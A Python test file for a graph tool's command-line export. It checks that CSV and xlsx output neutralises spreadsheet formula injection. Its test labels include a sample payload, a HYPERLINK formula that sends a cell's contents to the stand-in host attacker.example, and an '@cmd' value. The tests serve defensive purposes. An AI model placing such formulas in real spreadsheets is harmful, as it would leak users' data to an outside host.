"""Formula injection (OWASP CSV injection): what the CLI writes as CSV or xlsx opens as text, never runs."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from graph_model.store import GraphStore
from ingest.pipeline import ingest
from stratgraph.cli import cli
from stratgraph.output import render
from graph_model.spreadsheet import FORMULA_STARTS, _NUMBER, safe_cell, write_xlsx
from tests.hostile_corpus import HOSTILE

LABELS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Klikkaa")', "@cmd", "\tTab"]
QUERY = "SELECT ?label WHERE { ?s a sg:Stakeholder ; skos:prefLabel ?label } ORDER BY ?label"


def _runs(text: str) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text)


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory):
    db = tmp_path_factory.mktemp("formulas") / "store.db"
    with GraphStore(db) as store:
        ingest(HOSTILE / "formula-cells", store)
    return db


def test_csv_on_stdout_and_in_a_file_shows_formulas_as_text(formula_db, tmp_path):
    runner = CliRunner()
    printed = runner.invoke(cli, ["sparql", "--db", str(formula_db), QUERY, "--format", "csv"])
    assert printed.exit_code == 0, printed.output
    written = runner.invoke(cli, ["sparql", "--db", str(formula_db), QUERY, "--out", str(tmp_path / "x.csv")])
    assert written.exit_code == 0, written.output
    for text in (printed.output, (tmp_path / "x.csv").read_text(encoding="utf-8")):
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row[:1]]
        assert "'" + LABELS[0] in cells and "'@cmd" in cells and not any(_runs(c) for c in cells)


def test_xlsx_holds_formulas_as_string_cells(formula_db, tmp_path):
    out = tmp_path / "x.xlsx"
    result = CliRunner().invoke(cli, ["sparql", "--db", str(formula_db), QUERY, "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    assert LABELS[0] in [c.value for c in cells] and {c.data_type for c in cells} == {"s"}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r1.e,aB\"'; ")), max_size=12), min_size=1, max_size=5))
def test_no_csv_cell_can_start_a_formula(values):
    rows = [{f"c{i}": v for i, v in enumerate(values)}]
    [row] = list(csv.DictReader(io.StringIO(render(rows, "csv"), newline="")))
    assert not any(_runs(v) for v in row.values())
    assert all(safe_cell(v) == row[k] for k, v in rows[0].items())


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\tSUM()A1 \x00\x08")), min_size=1, max_size=10), min_size=1,
                max_size=4))
def test_no_xlsx_cell_is_a_formula(tmp_path_factory, values):
    out = tmp_path_factory.mktemp("x") / "x.xlsx"
    write_xlsx(out, [["c"] * len(values), values])
    cells = list(openpyxl.load_workbook(out).active.iter_rows(min_row=2))[0]
    assert [c.data_type for c in cells] == ["s"] * len(values)
